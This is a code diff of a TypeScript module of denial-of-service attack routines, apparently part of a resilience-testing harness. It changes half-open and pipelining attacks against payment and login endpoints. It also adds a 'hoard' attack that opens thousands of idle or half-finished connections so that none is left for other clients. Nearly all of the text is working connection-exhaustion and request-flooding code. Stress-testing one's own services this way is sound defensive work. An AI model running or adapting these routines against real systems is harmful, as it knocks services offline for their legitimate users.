@@ -41,10 +41,9 @@ export const halfOpen: Attack = {
       (n: number) => `${head(field, n, 'POST', '/api/paynet/return/AAAAAAAAAAAAAAAAAAAAAA', { 'Content-Length': '400' })}\r\nsession_id=`,
     ]
     return crowd(field, { atOnce: 200, most: 3_000, pauseMs: 200 }, async (n) => {
-      const { socket, closed } = await connect(field, n, 1)
-      socket.end(beginnings[n % beginnings.length]?.(n) ?? '')
-      await holdOn(field, socket, 5_000)
-      await closed
+      const connection = await connect(field, n, 1)
+      connection.socket.end(beginnings[n % beginnings.length]?.(n) ?? '')
+      await holdOn(field, connection, 5_000)
     })
   },
 }
@@ -57,9 +56,23 @@ export const pipelining: Attack = {
   run: (field) =>
     crowd(field, { atOnce: 4, most: 200, pauseMs: 500 }, async (n) => {
       const requests = n % 2 === 0 ? 1_000 : 3_000
-      const { socket, closed } = await connect(field, n, requests)
-      socket.write(`${head(field, n, 'GET', '/login')}\r\n`.repeat(requests))
-      await holdOn(field, socket)
-      await closed
+      const connection = await connect(field, n, requests)
+      connection.socket.write(`${head(field, n, 'GET', '/login')}\r\n`.repeat(requests))
+      await holdOn(field, connection)
+    }),
+}
+
+/** Takes connections, and keeps them, so that none is left for others. */
+export const hoard: Attack = {
+  name: 'hoard',
+  sends: '3,000 connections, without a proxy before the app, that say nothing, half a head, or one request and no more',
+  addresses: [1, 40],
+  isDirect: true,
+  run: (field) =>
+    crowd(field, { atOnce: 3_000, most: 9_000, pauseMs: 1_000 }, async (n) => {
+      const connection = await connect(field, n, n % 3 === 0 ? 0 : 1)
+      if (n % 3 === 1) connection.socket.write(head(field, n, 'GET', '/login'))
+      if (n % 3 === 2) connection.socket.write(`${head(field, n, 'GET', '/api/health/live')}\r\n`)
+      await holdOn(field, connection)
     }),
 }
